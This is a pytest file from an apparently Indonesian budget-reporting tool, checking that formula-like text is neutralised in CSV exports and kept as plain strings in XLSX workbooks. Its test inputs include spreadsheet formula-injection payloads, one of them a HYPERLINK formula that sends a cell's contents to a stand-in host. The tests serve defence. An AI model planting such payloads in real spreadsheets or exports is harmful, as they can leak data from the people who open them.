"""Text stays text: formula-like cells are neutralised in CSV exports (OWASP) and written as
strings in every XLSX; numbers stay numbers."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from core.text_safety import csv_text, keep_text
from publish.package import write_csv
from report.model import Column, Table
from report.workbook import write_workbook

DANGEROUS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+62 812 3456", "-2+3",
             "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_like_text_gets_a_quote_in_csv(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Fisik", "53.71", "2023-01", "Rp 4.741.818.999", ""])
def test_ordinary_text_is_unchanged(text):
    assert csv_text(text) == text


def test_csv_export_quotes_formula_text_and_keeps_negative_numbers(tmp_path):
    frame = pd.DataFrame({"nama_sub_kegiatan": [DANGEROUS[0], "Penyediaan Jasa"],
                          "pergeseran": [-7633200, 1200]})
    write_csv(frame, tmp_path / "x.csv", {"pergeseran": "integer"})
    lines = (tmp_path / "x.csv").read_text(encoding="utf-8").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[1].endswith(",-7633200")
    assert lines[2] == "Penyediaan Jasa,1200"


def test_xlsx_text_is_never_a_formula(tmp_path):
    book = Workbook()
    sheet = book.active
    for row, text in enumerate(DANGEROUS, start=1):
        sheet.cell(row, 1, text)
    sheet.cell(len(DANGEROUS) + 1, 1, -5)
    keep_text(book)
    book.save(tmp_path / "x.xlsx")
    xml = zipfile.ZipFile(tmp_path / "x.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    cells = list(load_workbook(tmp_path / "x.xlsx").active["A"])
    # (XML reads a stored carriage return back as a line feed.)
    assert [c.value for c in cells] == [*(t.replace("\r", "\n") for t in DANGEROUS), -5]
    assert [c.data_type for c in cells] == ["s"] * len(DANGEROUS) + ["n"]
    assert all(c.quotePrefix for c in cells[:-1])  # Excel keeps it text when edited


def test_the_annex_workbook_writes_a_budget_name_as_text(tmp_path):
    table = Table("6", "Alokasi", [Column(("Sub Kegiatan",), "text"), Column(("Pagu",), "money")],
                  [[DANGEROUS[0], 2461000], ["@Rapat", -5000]], ["Jumlah", 2456000],
                  sections={0: "=1+1 Program"})
    path = write_workbook(tmp_path / "annex.xlsx", "Lampiran", [("6", "Alokasi", "ada")],
                          [table], ["[check] -1 temuan"], "Dibuat")
    for name in zipfile.ZipFile(path).namelist():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in zipfile.ZipFile(path).read(name).decode(), name
    sheet = load_workbook(path)["Tabel 6"]
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert DANGEROUS[0] in values and "=1+1 Program" in values and -5000 in values
